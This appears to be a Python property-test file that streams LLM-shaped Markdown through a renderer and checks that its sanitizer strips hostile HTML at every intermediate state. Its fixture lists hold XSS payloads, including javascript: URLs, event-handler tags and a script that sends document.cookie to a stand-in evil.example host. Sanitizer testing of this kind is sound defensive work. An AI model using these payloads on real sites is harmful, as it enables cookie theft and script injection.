"""Property tests on Markdown shaped like a language model's answers.

The spec examples are short and each exercises one rule; real answers mix
everything, nest it, stop mid-construct, and sometimes carry hostile HTML or
links (prompt injection, copied web pages). Hypothesis builds such documents
block by block and cuts them like a token stream; the properties are the
convergence invariant and a clean allowlist at every state a reader sees.
"""

from __future__ import annotations

import os

import pytest
from chunking import cut, cut_at, stream
from hypothesis import HealthCheck, given, note, settings
from hypothesis import strategies as st

from renderer import render_markdown
from renderer.sanitizer.clean import check_allowlist

MAX_EXAMPLES = int(os.environ.get("LLM_MARKDOWN_EXAMPLES", "150"))
"""Kept moderate for the suite's sake; raise it for a long hunt."""

WORDS = (
    "the",
    "model",
    "returns",
    "a",
    "value",
    "of",
    "streaming",
    "Markdown",
    "is",
    "fine",
    "token",
    "42",
    "3.14",
    "x",
    "foo_bar",
    "snake_case",
    "über",
    "naïve",
    "日本語",
    "emoji 🚀",
    "e.g.",
    "(see",
    "below)",
    "it's",
    '"quoted"',
    "a*b",
    "2*3",
    "under_score",
    "~tilde",
    "#hash",
    "C#",
    "100%",
    "<T>",
    "a < b",
    "&",
    "&amp;",
    "&lt;script&gt;",
    "\\*",
    "\\_",
    "1.",
    "-",
    "+",
    "|",
    "`",
    "[",
    "]",
    "!",
    ":",
)

SAFE_URLS = (
    "https://example.com",
    "https://example.com/path?q=1&r=2#frag",
    "http://example.org/a_(b)",
    "/relative/path",
    "#anchor",
    "mailto:someone@example.com",
    "<https://example.com/with spaces>",
)

HOSTILE_URLS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "javascript&colon;alert(1)",
    "java\tscript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    " javascript:alert(1)",
)

INLINE_HTML = (
    "<kbd>Ctrl</kbd>+<kbd>C</kbd>",
    "<sup>2</sup>",
    "<sub>i</sub>",
    "<br>",
    '<span style="color:red">red</span>',
    '<abbr title="HyperText">HTML</abbr>',
    "<mark>marked</mark>",
    "<!-- a comment -->",
    '<b onclick="alert(1)">bold</b>',
)

HOSTILE_INLINE = (
    "<script>alert(1)</script>",
    '<script src="https://evil.example/x.js"></script>',
    "<img src=x onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    '<a href="javascript:alert(1)">click</a>',
    '<iframe src="https://evil.example"></iframe>',
    "<svg onload=alert(1)>",
    "<style>body{display:none}</style>",
    '<object data="x"></object>',
    "<input autofocus onfocus=alert(1)>",
    '<a href="https://example.com" onmouseover="alert(1)">hover</a>',
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<scr<script>ipt>alert(1)</script>",
    '<form action="https://evil.example"><button>go</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
)

HTML_BLOCKS = (
    "<details>\n<summary>More</summary>\n\nHidden *text*.\n\n</details>",
    "<details open>\n<summary>Open</summary>\n- item\n</details>",
    '<div align="center">\n<img src="https://example.com/a.png" alt="a">\n</div>',
    "<table>\n<tr><td>raw</td></tr>\n</table>",
    "<!--\nmulti-line comment\n-->",
    "<p>raw paragraph with <em>em</em></p>",
    "<kbd>Esc</kbd> closes it",
    "<script>\nfetch('https://evil.example/?c=' + document.cookie)\n</script>",
    "<style>\n* { color: red }\n</style>",
    '<iframe src="https://evil.example">\n</iframe>',
    '<div onclick="alert(1)">\n\nclick *me*\n\n</div>',
    "<img src=x\nonerror=alert(1)>",
    "<textarea>\n</textarea><script>alert(1)</script>",
    "<pre>\n<script>alert(1)</script>\n</pre>",
)

LABELS = ("ref", "Docs", "the spec", "1")

CODE_LINES = (
    "def f(x):",
    "    return x * 2",
    "",
    "print(f(21))  # <script>alert(1)</script>",
    "for i in range(3): print(i)",
    "const a = `template ${x}`;",
    "```",
    "~~~",
    "| a | b |",
    "<div>not html</div>",
    "\tindented with a tab",
    "",
)


def words(n_max: int = 8) -> st.SearchStrategy[str]:
    """A few plain words."""
    return st.lists(st.sampled_from(WORDS), min_size=1, max_size=n_max).map(" ".join)


@st.composite
def inline(draw: st.DrawFn, depth: int = 0) -> str:
    """One inline construct, possibly nesting another."""
    inner = draw(inline(depth + 1)) if depth < 2 and draw(st.booleans()) else draw(words(4))
    kind = draw(
        st.sampled_from(
            (
                "text",
                "text",
                "text",
                "em",
                "strong",
                "em_",
                "strong_",
                "strike",
                "code",
                "code2",
                "link",
                "link_title",
                "ref_link",
                "collapsed_ref",
                "shortcut_ref",
                "image",
                "autolink",
                "email",
                "bare_url",
                "html",
                "hostile",
                "hostile_link",
                "escape",
                "entity",
                "dangling",
                "hard_break",
            )
        )
    )
    url = draw(st.sampled_from(SAFE_URLS))
    label = draw(st.sampled_from(LABELS))
    match kind:
        case "text":
            return draw(words())
        case "em":
            return f"*{inner}*"
        case "strong":
            return f"**{inner}**"
        case "em_":
            return f"_{inner}_"
        case "strong_":
            return f"__{inner}__"
        case "strike":
            return f"~~{inner}~~"
        case "code":
            return f"`{draw(words(3))}`"
        case "code2":
            return f"`` a ` b {draw(words(2))} ``"
        case "link":
            return f"[{inner}]({url})"
        case "link_title":
            return f'[{inner}]({url} "a title")'
        case "ref_link":
            return f"[{inner}][{label}]"
        case "collapsed_ref":
            return f"[{label}][]"
        case "shortcut_ref":
            return f"[{label}]"
        case "image":
            return f"![{draw(words(2))}]({url})"
        case "autolink":
            return "<https://example.com/auto>"
        case "email":
            return "<someone@example.com>"
        case "bare_url":
            return "https://example.com/bare and www.example.org"
        case "html":
            return draw(st.sampled_from(INLINE_HTML))
        case "hostile":
            return draw(st.sampled_from(HOSTILE_INLINE))
        case "hostile_link":
            bad = draw(st.sampled_from(HOSTILE_URLS))
            return draw(st.sampled_from((f"[{inner}]({bad})", f"![x]({bad})", f"<{bad}>")))
        case "escape":
            return draw(st.sampled_from(("\\*not em\\*", "\\<div\\>", "\\[x\\]", "1\\. not list")))
        case "entity":
            return draw(st.sampled_from(("&copy;", "&#35;", "&#x27;", "&nbsp;", "&bogus;")))
        case "dangling":
            return draw(st.sampled_from(("**unclosed", "*", "`unclosed code", "[unclosed", "~~")))
        case _:
            return f"{inner}  \n{draw(words(3))}"


def line(min_size: int = 1, max_size: int = 6) -> st.SearchStrategy[str]:
    """A line of prose: inline constructs separated by spaces."""
    return st.lists(inline(), min_size=min_size, max_size=max_size).map(" ".join)


@st.composite
def paragraph(draw: st.DrawFn) -> str:
    """One to three lines of prose."""
    return "\n".join(draw(st.lists(line(), min_size=1, max_size=3)))


@st.composite
def heading(draw: st.DrawFn) -> str:
    """An ATX or setext heading."""
    text = draw(line(1, 3))
    style = draw(st.sampled_from(("atx", "atx", "atx_closed", "setext1", "setext2")))
    level = draw(st.integers(1, 6))
    match style:
        case "atx":
            return f"{'#' * level} {text}"
        case "atx_closed":
            return f"{'#' * level} {text} {'#' * level}"
        case "setext1":
            return f"{text}\n{'=' * draw(st.integers(1, 8))}"
        case _:
            return f"{text}\n{'-' * draw(st.integers(1, 8))}"


@st.composite
def fenced_code(draw: st.DrawFn, closed: bool = True) -> str:
    """A fenced code block, with blank lines inside; unclosed if asked."""
    fence = draw(st.sampled_from(("```", "````", "~~~")))
    info = draw(st.sampled_from(("", "python", "js", "html", "text {.class}", "diff")))
    body = draw(st.lists(st.sampled_from(CODE_LINES), max_size=6))
    body = [ln for ln in body if not ln.startswith(fence[0] * 3)]  # keep the fence open
    lines = [fence + info, *body]
    if closed:
        lines.append(fence)
    return "\n".join(lines)


@st.composite
def indented_code(draw: st.DrawFn) -> str:
    """An indented code block."""
    body = draw(st.lists(st.sampled_from(CODE_LINES[:5]), min_size=1, max_size=4))
    return "\n".join("    " + ln if ln else "" for ln in body).strip("\n") or "    x"


@st.composite
def table(draw: st.DrawFn) -> str:
    """A GFM table, sometimes ragged."""
    columns = draw(st.integers(1, 4))
    align = st.sampled_from(("---", ":--", "--:", ":-:", "-"))
    cell = st.one_of(words(3), st.just("`a|b`"), st.just("a \\| b"), st.just(""), inline())
    header = draw(st.lists(cell, min_size=columns, max_size=columns))
    delimiter = draw(st.lists(align, min_size=columns, max_size=columns))
    rows = draw(st.lists(st.lists(cell, min_size=max(columns - 1, 1), max_size=columns + 1), max_size=4))
    outer = draw(st.booleans())

    def row(cells: list[str]) -> str:
        inner = " | ".join(c.replace("\n", " ") for c in cells)
        return f"| {inner} |" if outer else inner

    return "\n".join([row(header), row(delimiter), *(row(r) for r in rows)])


@st.composite
def reference_definition(draw: st.DrawFn) -> str:
    """A link reference definition (before or after its use, as it falls)."""
    label = draw(st.sampled_from(LABELS))
    url = draw(st.sampled_from(SAFE_URLS + HOSTILE_URLS[:2]))
    title = draw(st.sampled_from(("", ' "Title"', " 'single'", "\n  (on the next line)")))
    return f"[{label}]: {url}{title}"


@st.composite
def list_block(draw: st.DrawFn, depth: int = 0) -> str:
    """A bullet or ordered list, tight or loose, possibly nested."""
    ordered = draw(st.booleans())
    loose = draw(st.integers(0, 3)) == 0
    start = draw(st.sampled_from((1, 1, 1, 0, 3, 10)))
    bullet = draw(st.sampled_from(("-", "*", "+")))
    delim = draw(st.sampled_from((".", ")")))
    items: list[str] = []
    for n in range(draw(st.integers(1, 4))):
        marker = f"{start + n}{delim}" if ordered else bullet
        indent = " " * (len(marker) + 1)
        parts = [draw(line(1, 4))]
        if depth < 2 and draw(st.integers(0, 3)) == 0:
            parts.append(draw(list_block(depth + 1)))
        if draw(st.integers(0, 5)) == 0:
            parts.append(draw(st.one_of(fenced_code(), paragraph(), table())))
        body = ("\n\n" if loose else "\n").join(parts)
        lines = body.split("\n")
        text = "\n".join([lines[0]] + [indent + ln if ln else "" for ln in lines[1:]])
        items.append(f"{marker} {text}")
    return ("\n\n" if loose else "\n").join(items)


@st.composite
def blockquote(draw: st.DrawFn, depth: int = 0) -> str:
    """A blockquote holding a few blocks, lazily continued now and then."""
    inner = draw(st.lists(block(depth + 1), min_size=1, max_size=3))
    body = "\n\n".join(inner)
    quoted = "\n".join(("> " + ln).rstrip() for ln in body.split("\n"))
    if draw(st.integers(0, 4)) == 0:
        quoted += "\n" + draw(words())  # lazy continuation line
    return quoted


def block(depth: int = 0) -> st.SearchStrategy[str]:
    """Any block; containers nest a little."""
    leaves: list[st.SearchStrategy[str]] = [
        paragraph(),
        paragraph(),
        paragraph(),
        heading(),
        fenced_code(),
        indented_code(),
        table(),
        reference_definition(),
        st.sampled_from(HTML_BLOCKS),
        st.sampled_from(("---", "***", "___", "- - -")),
    ]
    if depth < 2:
        leaves += [list_block(), list_block(), blockquote(depth)]
    return st.one_of(leaves)


@st.composite
def documents(draw: st.DrawFn) -> str:
    """A whole answer: blocks separated by blank lines (or not), maybe cut short."""
    blocks = draw(st.lists(block(), min_size=1, max_size=8))
    ending = draw(st.sampled_from(("newline", "none", "unclosed_fence", "blank_lines")))
    if ending == "unclosed_fence":
        blocks.append(draw(fenced_code(closed=False)))
    separators = st.sampled_from(("\n\n", "\n\n", "\n\n", "\n", "\n\n\n"))
    text = blocks[0]
    for b in blocks[1:]:
        text += draw(separators) + b
    if ending == "newline":
        text += "\n"
    elif ending == "blank_lines":
        text += "\n\n\n"
    return text


@st.composite
def chunked_documents(draw: st.DrawFn) -> tuple[str, tuple[str, ...]]:
    """A document and a way of cutting it, mostly token-sized pieces."""
    text = draw(documents())
    if draw(st.booleans()):
        # long texts get larger pieces so that a case stays under a second
        size = max(draw(st.integers(1, 12)), len(text) // 300)
        return text, cut(text, size)
    positions = draw(st.lists(st.integers(0, len(text)), max_size=80))
    return text, cut_at(text, positions)


def check_stream(text: str, chunks: tuple[str, ...]) -> None:
    """The properties: convergence, an empty tail after close, clean states."""
    expected = render_markdown(text)
    run = stream(chunks)
    note(f"expected = {expected!r}")
    note(f"got      = {run.document.html!r}")
    assert run.document.html == expected
    assert run.document.tail == ""
    checked: set[str] = set()
    for index, state in enumerate(run.states):
        if state in checked:
            continue
        checked.add(state)
        violations = check_allowlist(state)
        fed = "".join(chunks[: index + 1])
        assert violations == [], f"after {fed!r}: {violations!r} in {state!r}"


@pytest.mark.slow
@settings(
    max_examples=MAX_EXAMPLES,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)
@given(chunked_documents())
def test_streamed_llm_answers_converge_and_every_state_is_clean(
    case: tuple[str, tuple[str, ...]],
) -> None:
    check_stream(*case)


SOUP = (
    *"*_`[]()<>!#-=|~ \n\n\n\t>1.:ab\\&;\r",
    "```",
    "~~~",
    "    ",
    "- ",
    "1. ",
    "> ",
    "\r\n",
    "\x00",
    "&amp;",
    "https://x.y",
    "| a | b |\n|---|---|\n",
    "[r]: /u\n",
    "[r]",
    "<div>",
    "</div>",
    "<details>",
    "<script>",
    "<img src=x onerror=y>",
    "javascript:",
)


@st.composite
def chunked_soup(draw: st.DrawFn) -> tuple[str, tuple[str, ...]]:
    """Short texts made of syntax fragments, CR and NUL included, cut anywhere:
    where the documents above are plausible, these reach the odd corners."""
    text = "".join(draw(st.lists(st.sampled_from(SOUP), max_size=60)))
    return text, cut_at(text, draw(st.lists(st.integers(0, len(text)), max_size=30)))


@settings(max_examples=4 * MAX_EXAMPLES, deadline=None)
@given(chunked_soup())
def test_streamed_markdown_soup_converges_and_every_state_is_clean(
    case: tuple[str, tuple[str, ...]],
) -> None:
    check_stream(*case)
